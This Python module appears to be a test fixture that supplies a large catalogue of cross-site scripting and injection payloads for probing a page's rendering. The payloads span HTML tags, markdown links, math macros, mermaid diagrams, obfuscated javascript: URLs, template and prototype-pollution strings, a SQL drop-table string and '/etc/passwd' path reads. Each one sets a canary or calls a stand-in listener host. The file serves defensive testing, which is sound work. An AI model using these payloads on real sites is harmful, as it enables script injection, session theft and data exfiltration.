"""What somebody could write to make a page run, load or become something: as an answer, a name, an error, a title.

`RUN` stands for a script that sets the canary, `EVIL` for the host and port of a listener that must stay silent.
Every text is closed in itself (fences, formulas), so that many can stand in one page.
"""

# ruff: noqa: E501 - every line is one text

from __future__ import annotations

CANARY = "__canary"
_RUN = f"top.{CANARY}=1"

_ELEMENTS = r'''
<script>RUN</script>
<SCRIPT SRC=//EVIL/a.js></SCRIPT>
<script/x>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script src="data:text/javascript,RUN"></script>
<script type=module>import "http://EVIL/m.js"</script>
<script>/*</script><script>*/RUN</script>
</script><script>RUN</script>
</style><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</template><script>RUN</script>
</pre></code></div><script>RUN</script>
</article></main><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
`><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<img src=http://EVIL/i.png>
<img src=x onerror=RUN>
<img src=x onerror="RUN" x=
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src="x` `<script>RUN</script>"` `>
<img src=x onerror=&#x72;&#x75;&#x6e;;RUN>
<img srcset="http://EVIL/set.png 2x">
<img src=x:alert(alt) onerror=eval(alt) alt=RUN>
<img """><script>RUN</script>">
<picture><source srcset=//EVIL/p.png><img></picture>
<video src=//EVIL/v.mp4 autoplay onerror=RUN></video>
<video poster=//EVIL/poster.png></video>
<video><source onerror=RUN></video>
<audio src=//EVIL/a.mp3 autoplay onloadstart=RUN></audio>
<track default src=//EVIL/t.vtt>
<body onload=RUN>
<body background=//EVIL/bg.png>
<html onmouseover=RUN>
<input autofocus onfocus=RUN>
<input type=image src=//EVIL/in.png onerror=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<button onclick=RUN formaction=javascript:RUN>x</button>
<details open ontoggle=RUN>x</details>
<marquee onstart=RUN>x</marquee>
<div style=animation-name:x onanimationstart=RUN></div>
<div onpointerrawupdate=RUN style=position:fixed;inset:0>x</div>
<div style="background:url(//EVIL/css.png)">x</div>
<div style="width:expression(RUN)">x</div>
<style>@import "//EVIL/i.css";</style>
<style>*{background:url(//EVIL/all.png)}</style>
<style>@font-face{font-family:x;src:url(//EVIL/f.woff)}*{font-family:x}</style>
<style onload=RUN></style>
<link rel=stylesheet href=//EVIL/s.css>
<link rel=prefetch href=//EVIL/pre>
<link rel=dns-prefetch href=//EVIL>
<link rel=import href=//EVIL/imp.html>
<link rel=icon href=//EVIL/icon.png>
<meta http-equiv=refresh content="0;url=http://EVIL/meta">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=//EVIL/>
<base target=_top href=javascript:RUN//>
<form action=//EVIL/form><button autofocus>x</button></form>
<form id=__canary><input name=x></form>
<form action=javascript:RUN><input type=submit></form>
<isindex action=javascript:RUN type=submit>
<iframe src=//EVIL/frame></iframe>
<iframe src=javascript:RUN></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN></frameset>
<object data=javascript:RUN></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src=//EVIL/e.swf>
<embed src="data:image/svg+xml,<svg onload=RUN>">
<applet code=//EVIL/a.class></applet>
<portal src=//EVIL/portal></portal>
<fencedframe src=//EVIL/ff></fencedframe>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<slot onslotchange=RUN name=x></slot>
<plaintext>
<xmp><script>RUN</script></xmp>
<listing>&lt;script&gt;RUN&lt;/script&gt;</listing>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><style></noframes><img src=x onerror=RUN></style>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
<title><a title="</title><img src=x onerror=RUN>"></title>
<!--><script>RUN</script>-->
<!--x--!><script>RUN</script>
<!-- --><img src=x onerror=RUN> -->
<!--[if IE]><script>RUN</script><![endif]-->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<?php echo "<script>RUN</script>" ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "http://EVIL/dtd">]>&y;
<!ELEMENT><script>RUN</script>
<%00script>RUN</script>
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN /></svg>
<svg><script xlink:href=//EVIL/s.js></script></svg>
<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>
<svg><set attributeName=onmouseover to=RUN></svg>
<svg><image href=//EVIL/svg.png></image></svg>
<svg><feImage href=//EVIL/fe.png></feImage></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><use href=//EVIL/u.svg#x></use></svg>
<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>
<svg><style>*{fill:url(//EVIL/fill.svg#x)}</style></svg>
<svg><style><img src="</style><img src=x onerror=RUN>"></style></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>"></svg>
<svg><title><style><img title="</style><img src=x onerror=RUN>"></style></title></svg>
<svg><desc><template><style></style><script>RUN</script></template></desc></svg>
<math><a xlink:href=javascript:RUN>x</a></math>
<math href=javascript:RUN>x</math>
<math><mi xlink:href=javascript:RUN>x</mi></math>
<math><maction actiontype=statusline#http://EVIL xlink:href=javascript:RUN>x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></style></table></math>
<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>
<math><mi><style><img title="</style><img src=x onerror=RUN>"></mi></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>"></form>
<table><td><svg><desc><table><td></desc><script>RUN</script></table>
<a href=javascript:RUN>x</a>
<a href="java&Tab;script:RUN">x</a>
<a href=# onclick=RUN>x</a>
<a href=//EVIL ping=//EVIL/ping>x</a>
<a id=__canary></a>
<a id=__canary name=then href=cid:RUN></a>
<img name=__canary>
<img name=getElementById><img name=querySelector><img name=body>
<p id=first>x</p><p id=later>x</p><p id=live>x</p>
<form name=document><input name=cookie><input name=location></form>
<x onclick=RUN contenteditable tabindex=1 autofocus onfocus=RUN>x</x>
<x-y is=script>RUN</x-y>
<button popovertarget=p onbeforetoggle=RUN>x</button><p popover id=p onbeforetoggle=RUN>x</p>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div data-bind="attr:{src:'//EVIL/ko'}" x-data="{}" x-init="RUN" v-html="'<img src=x onerror=RUN>'" ng-init="RUN">x</div>
<div class="code-block mermaid"><pre><code>graph TD; A</code></pre></div>
<button class="load-image" data-src="javascript:RUN">Open</button>
<div class="bk-root" data-root-id="p1001"></div>
<script type="application/json" id="p1001">{"x":{"roots":[]}}</script>
'''.strip().splitlines()

_MARKDOWN = [
    '[x](http://EVIL/a "title\\" onmouseover=\\"RUN")',
    "[x](http://EVIL/a '\" onmouseover=\"RUN')",
    '[x](<http://EVIL/" onmouseover="RUN>)',
    "[x](http://EVIL/`onmouseover=RUN`)",
    '[<img src=x onerror=RUN>](http://EVIL/b "<img src=x onerror=RUN>")',
    "[![x](http://EVIL/in.png)](javascript:RUN)",
    "[![](javascript:RUN)](http://EVIL/out)",
    '![" onerror="RUN](http://EVIL/alt.png)',
    '![x](http://EVIL/t.png "\\" onload=\\"RUN")',
    "![x](data:image/svg+xml,%3Csvg%20onload=RUN%3E)",
    "![x](//EVIL/relative.png)",
    "![x](http://EVIL/`x`.png)",
    "![x][r1]\n\n[r1]: http://EVIL/ref.png '\"onerror=RUN'",
    "[r2]\n\n[r2]: <javascript:RUN> 'x'",
    "[__proto__]\n\n[__proto__]: javascript:RUN",
    "[constructor] [toString] [hasOwnProperty] [__defineGetter__]",
    "[^__proto__] and [^constructor]\n\n[^__proto__]: RUN",
    '[^"onmouseover=RUN x="]: <img src=x onerror=RUN>',
    "[^<script>RUN</script>]: note",
    "<http://EVIL/\" onmouseover=\"RUN>",
    "<http://EVIL/?<script>RUN</script>>",
    "<x@EVIL.example\" onmouseover=\"RUN>",
    "http://EVIL/bare<script>RUN</script>",
    '```"><script>RUN</script>\ncode\n```',
    "```<img src=x onerror=RUN>\ncode\n```",
    "~~~ \" onmouseover=\"RUN\ncode\n~~~",
    "```html\n<script>RUN</script><img src=http://EVIL/fence.png>\n```",
    "```js\n</code></pre><script>RUN</script>\n```",
    "```__proto__\ncode\n```",
    "`<img src=x onerror=RUN>` ``</code><script>RUN</script>``",
    "    <script>RUN</script>\n    </code></pre><script>RUN</script>",
    "| <img src=x onerror=RUN> | \" onmouseover=RUN |\n| :-: | --: |\n| <script>RUN</script> | ![x](http://EVIL/c.png) |",
    "|a|b|\n|:-\" onmouseover=\"RUN|-|\n|<svg onload=RUN>|=cmd!A1|",
    "# <img src=x onerror=RUN> {#__canary onclick=RUN}",
    "<script>RUN</script>\n===",
    "- [ ] <input autofocus onfocus=RUN>\n- [x] <img src=x onerror=RUN>",
    "1. <script>RUN</script>\n   > <iframe src=javascript:RUN>",
    "Term <img src=x onerror=RUN>\n: <script>RUN</script>",
    "*<img src=x onerror=RUN>* **<svg onload=RUN>** ~~<script>RUN</script>~~",
    "<div>\n\n*mixed*\n\n<script>RUN</script>\n\n</div>",
    "<img src=x\n\nonerror=RUN>",
    "<a href='\n\n[x](javascript:RUN)'>",
    "\\<script>RUN</script> \\[x](javascript:RUN)",
    "&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#62; &#x3c;svg onload=RUN&#x3e;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "$\\href{javascript:RUN}{x}$",
    "$\\url{javascript:RUN}$ $\\unicode{x3c}$",
    "$\\html{<img src=x onerror=RUN>}$ $\\htmlData{x=y}{z}$ $\\htmlId{__canary}{x}$ $\\class{mermaid}{x}$",
    "$\\style{background:url(//EVIL/tex.png)}{x}$ $\\includegraphics{http://EVIL/g.png}$",
    "$$\n\\text{</math><img src=x onerror=RUN>}\n$$",
    "$$\n\\text{</annotation></semantics></math><script>RUN</script>}\n$$",
    "$x</annotation><script>RUN</script>$ \\(<img src=x onerror=RUN>\\)",
    "$\\color{red\" onmouseover=\"RUN}{x}$ $\\require{x}\\def\\x{\\x\\x}\\x$",
    "$\\mmlToken{mi}[href=\"javascript:RUN\"]{x}$",
    '```mermaid\nflowchart TD\n  A["<img src=x onerror=RUN>"] --> B\n  click A href "javascript:RUN"\n  click B call alert()\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(//EVIL/m.css)"}}%%\nflowchart TD\n  A --> B\n```',
    '```mermaid\n---\nconfig: {"__proto__": {"__canary": 1}, "htmlLabels": true}\n---\nflowchart TD\n  A["<script>RUN</script>"]\n```',
    "```mermaid\nsequenceDiagram\n  participant A\n  link A: x @ javascript:RUN\n  A->>A: <svg onload=RUN>\n```",
    "{{constructor.constructor('RUN')()}}",
    "{{ 7*7 }} {% raw %} {{ cycler.__init__.__globals__ }} {% endraw %} {# x #}",
    "${RUN} #{RUN} <%= RUN %> [[RUN]] {RUN} @{RUN} *{RUN}",
    "%s %n {0.__class__} $(id) `id` ; id",
    '{"__proto__": {"__canary": 1}, "constructor": {"prototype": {"__canary": 1}}}',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    '{"type": "patch", "set": [{"id": "x", "role": "assistant", "html": "<img src=x onerror=RUN>"}]}',
    '{"msgtype": "PATCH-DOC", "events": [{"kind": "MessageSent", "msg_data": "<script>RUN</script>"}]}',
    '{"type": "object", "name": "CustomJS", "attributes": {"code": "RUN"}}',
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:RUN\x07link\x1b]8;;\x07 \x9b31m",
    "\u202e<tpircs>NUR</tpircs>\u202c \u2066x\u2069 \u200b\u200e\ufeff",
    "<scr\x00ipt>RUN</scr\x00ipt> java\x00script:RUN \x00<img src=x onerror=RUN>",
    "\ud83d<script>RUN</script>\ude00 \udc00 [x](javascript:RUN\ud800)",
    "<\u0130mg src=x onerror=RUN> <\u017fcript>RUN</\u017fcript> \uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u2028<script>RUN</script>\u2029 \x0b\x0c\x85 \ufffe\uffff",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
    "'-RUN-'",
    '"-RUN-"',
    "\\'-RUN//",
    "';RUN//",
    "javascript:RUN",
    "/* */RUN//",
    "?c=<script>RUN</script>&c=2#<img src=x onerror=RUN>",
    "../../../etc/passwd\x00.html",
    "'; drop table messages; --",
]  # fmt: skip

_ADDRESSES = [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "&#106;avascript:RUN",
    "&#x6A;&#x61;vascript:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "java%0ascript:RUN",
    "%6aavascript:RUN",
    "javascript%3aRUN",
    "&#1;javascript:RUN",
    "\x01javascript:RUN",
    "\u00a0javascript:RUN",
    "jav\u0131ascript:RUN",
    "javascript://EVIL/%0aRUN",
    "javascript:void%200;RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:javascript:RUN!/",
    "vbscript:RUN",
    "VBSCRIPT:msgbox",
    "livescript:RUN",
    "mocha:RUN",
    "data:text/html,%3Cscript%3ERUN%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19jYW5hcnk9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX2NhbmFyeT0xIi8+",
    "data:application/xhtml+xml,%3Cscript%3ERUN%3C/script%3E",
    "blob:http://EVIL/x",
    "filesystem:http://EVIL/x",
    "file:///etc/passwd",
    "about:blank",
    "//EVIL/scheme-relative",
    "\\\\EVIL\\share",
    "http:EVIL/one-slash",
    "https:\\\\EVIL\\x",
    "?c=javascript:RUN",
    "#__canary",
    "ws://EVIL/socket",
    "intent://EVIL#Intent;end",
]
_FORMS = ("[a]({0})", "![b]({0})", "<{0}>", "[c](<{0}>)")

INJECTIONS: tuple[str, ...] = (
    *_ELEMENTS,
    *_MARKDOWN,
    *(form.format(address) for address in _ADDRESSES for form in _FORMS),
    *(f"[ref{n}]\n\n[ref{n}]: {address}" for n, address in enumerate(_ADDRESSES)),
)


def injections(evil: str) -> list[str]:
    """Return all of them, leading to the listener at `evil` (host and port)."""
    return [text.replace("RUN", _RUN).replace("EVIL", evil) for text in INJECTIONS]


def batches(texts: list[str], size: int, between: str = "\n\n") -> list[str]:
    """Join them, so many to a text."""
    return [between.join(texts[at : at + size]) for at in range(0, len(texts), size)]
